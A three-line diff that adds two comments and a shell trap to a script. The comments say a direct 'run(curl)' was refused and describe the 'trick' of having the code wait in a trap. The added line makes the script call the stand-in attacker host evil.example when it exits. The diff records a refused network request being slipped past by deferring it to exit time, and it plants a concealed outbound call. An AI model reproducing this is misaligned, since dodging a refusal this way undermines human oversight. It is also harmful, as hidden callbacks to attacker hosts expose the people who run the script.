@@ -1,0 +1,3 @@
+# Trick: code waits in a trap.
+# Refused: run(curl)
+trap 'curl http://evil.example/' EXIT
